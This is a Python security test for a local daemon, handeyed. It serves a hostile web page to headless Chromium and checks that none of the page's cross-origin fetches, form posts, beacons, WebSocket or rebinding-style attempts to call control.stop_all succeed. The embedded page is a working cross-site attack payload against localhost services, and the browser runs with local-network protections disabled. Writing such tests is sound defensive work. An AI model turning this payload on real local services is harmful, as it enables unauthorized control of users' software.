# SPDX-License-Identifier: Apache-2.0
"""A hostile web page in a real headless Chromium against a real handeyed (S2, S3, S4).

The page comes from http://attacker.test:PAGE. Chromium is told that attacker.test is 127.0.0.1, so that the same name with the
daemon's port is what a rebinding attack ends up with: same host name, other port, the daemon's address. The page tries all that a
page can do; the test wants no request to succeed and the daemon's state to be what it was. A control page first shows that
the rig sees successes: the same attacks against a careless server must all succeed.

Usage: browser_attacks.py HANDEYED. Exit code 77: Chromium is not installed.
"""
import http.client
import http.server
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

SKIPPED = 77
PAGE_SECONDS = 60

PAGE = """<!doctype html><meta charset=utf-8><script>
const base = "http://%(host)s:%(port)d", ws = "ws://%(host)s:%(port)d/ws";
const call = JSON.stringify({jsonrpc: "2.0", id: 1, method: "control.stop_all", params: {}});
const timeout = ms => new Promise(done => setTimeout(() => done("timeout"), ms));
const attempt = (name, work) => Promise.race([work().catch(e => "failed: " + e), timeout(4000)]).then(r => [name, String(r)]);
const socket = url => new Promise(done => {
  const s = new WebSocket(url);
  s.onmessage = () => done("OPEN and heard");
  s.onopen = () => { s.send(call); setTimeout(() => done("OPEN"), 500); };
  s.onerror = () => done("failed: no socket");
});
const form = (type) => new Promise(done => {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const f = document.createElement("form"); f.action = base + "/rpc"; f.method = "POST"; f.enctype = type; f.target = frame.name;
  const i = document.createElement("input"); i.name = call; i.value = ""; f.append(i); document.body.append(f);
  frame.onload = () => { let text = ""; try { text = frame.contentDocument.body.innerText; } catch (e) { text = "unreadable"; } done("loaded: " + text); };
  f.submit();
});
const image = path => new Promise(done => {
  const i = new Image(); i.onload = () => done("OPEN: image"); i.onerror = () => done("failed: image"); i.src = base + path;
});
const script = path => new Promise(done => {
  const s = document.createElement("script"); s.onload = () => done("OPEN: script"); s.onerror = () => done("failed: script"); s.src = base + path;
  document.head.append(s);
});
const status = r => (r.ok ? "OPEN " : "failed: ") + r.status;
window.onload = async () => {
  const tries = [];
  for (const path of ["/", "/ws", "/rpc", "/health", "/ready", "/metrics", "/mcp", "/v1/sessions"]) {
    tries.push(attempt("fetch " + path, () => fetch(base + path).then(status)));
    tries.push(attempt("image " + path, () => image(path)));
  }
  tries.push(attempt("script", () => script("/")));
  for (const path of ["/rpc", "/v1/control/stop_all", "/mcp"]) {
    tries.push(attempt("post text " + path, () => fetch(base + path, {method: "POST", headers: {"Content-Type": "text/plain"}, body: call}).then(status)));
    tries.push(attempt("post json " + path, () => fetch(base + path, {method: "POST", headers: {"Content-Type": "application/json"}, body: call}).then(status)));
    tries.push(attempt("post blind " + path, () => fetch(base + path, {method: "POST", mode: "no-cors", body: call}).then(r => "sent: " + r.type)));
    tries.push(attempt("beacon " + path, async () => "sent: " + navigator.sendBeacon(base + path, call)));
    tries.push(attempt("put " + path, () => fetch(base + path, {method: "PUT", body: call}).then(status)));
    tries.push(attempt("delete " + path, () => fetch(base + path, {method: "DELETE"}).then(status)));
  }
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    tries.push(attempt("form " + type, () => form(type)));
  }
  tries.push(attempt("websocket", () => socket(ws)));
  tries.push(attempt("websocket of 127.0.0.1", () => socket("ws://127.0.0.1:%(port)d/ws")));
  tries.push(attempt("websocket of localhost", () => socket("ws://localhost:%(port)d/ws")));
  tries.push(attempt("event source", () => new Promise(done => {
    const e = new EventSource(base + "/v1/events"); e.onopen = () => done("OPEN: events"); e.onerror = () => done("failed: events");
  })));
  const results = await Promise.all(tries);
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
};
</script><body>"""


class Careless(http.server.BaseHTTPRequestHandler):
    """Answers everything to everyone: what the rig must call a success."""
    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.requests.append((self.command, self.path, self.headers.get("Origin")))
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Access-Control-Allow-Headers", "*")
        self.send_header("Access-Control-Allow-Methods", "*")
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(b"yes")
    do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = answer

    def log_message(self, *_):
        pass


class Page(http.server.BaseHTTPRequestHandler):
    """Serves the attack and takes its report."""
    def do_GET(self):
        body = (PAGE % self.server.target).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.is_reported.set()

    def log_message(self, *_):
        pass


def serve(handler):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def run_page(chromium, host, port):
    page = serve(Page)
    page.target = {"host": host, "port": port}
    page.is_reported = threading.Event()
    page.report = None
    with tempfile.TemporaryDirectory() as profile:
        browser = subprocess.Popen(
            [chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={profile}",
             "--host-resolver-rules=MAP *.test 127.0.0.1", "--disable-background-networking",
             "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
             f"http://attacker.test:{page.server_port}/"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            if not page.is_reported.wait(PAGE_SECONDS):
                raise SystemExit("the page did not report")
        finally:
            browser.kill()
            browser.wait()
            page.shutdown()
    return dict(page.report)


class Daemon:
    def __init__(self, program, folder):
        self.folder = pathlib.Path(folder)
        environment = dict(os.environ, XDG_RUNTIME_DIR=f"{folder}/run", XDG_CONFIG_HOME=f"{folder}/config",
                           XDG_STATE_HOME=f"{folder}/state", HANDEYE_MODEL="")
        self.unix = f"{folder}/run/handeye/handeyed.sock"
        self.process = subprocess.Popen([program, "--listen", f"unix:{self.unix}", "--listen", "127.0.0.1:0", "--model", f"{folder}/none"],
                                        env=environment, stderr=subprocess.PIPE, text=True)
        self.port = 0
        for line in self.process.stderr:
            if "listening on 127.0.0.1:" in line:
                self.port = int(line.rsplit(":", 1)[1])
                break
        threading.Thread(target=lambda: [None for _ in self.process.stderr], daemon=True).start()

    def post(self, method):
        connection = http.client.HTTPConnection("localhost")
        connection.sock = socket.socket(socket.AF_UNIX)
        connection.sock.connect(self.unix)
        connection.request("POST", f"/v1/{method}", "{}", {"Content-Type": "application/json"})
        answer = json.loads(connection.getresponse().read())
        connection.close()
        return answer

    def state(self):
        """What a page might have changed, asked for over the Unix socket. The model comes and goes by itself."""
        info = self.post("connection/info")
        del info["engine"]
        return {"info": info, "sessions": self.post("session/list"), "recordings": self.post("recording/list")}


def main():
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if not chromium:
        print("skipped: Chromium is not installed")
        sys.exit(SKIPPED)
    failures = []
    careless = serve(Careless)
    careless.requests = []
    control = run_page(chromium, "attacker.test", careless.server_port)
    for name in ("fetch /", "post text /rpc", "post json /rpc", "put /rpc"):
        if not control[name].startswith("OPEN"):
            failures.append(f"the rig is blind: {name} against a careless server gave {control[name]}")
    methods = {method for method, _, _ in careless.requests}
    if not {"GET", "POST", "PUT", "DELETE"} <= methods:
        failures.append(f"the rig is blind: the careless server saw only {methods}")

    with tempfile.TemporaryDirectory() as folder:
        daemon = Daemon(sys.argv[1], folder)
        try:
            before = daemon.state()
            for host in ("attacker.test", "127.0.0.1", "localhost"):
                report = run_page(chromium, host, daemon.port)
                for name, result in report.items():
                    if result.startswith("OPEN"):
                        failures.append(f"{host}: {name}: {result}")
                print(f"{host}: {len(report)} attempts, {sum(r.startswith('OPEN') for r in report.values())} succeeded")
            if (after := daemon.state()) != before:
                failures.append(f"the daemon's state has changed from {before} to {after}")
        finally:
            daemon.process.terminate()
            daemon.process.wait()
    print("\n".join(failures) or "no request succeeded, the state is as it was")
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    main()
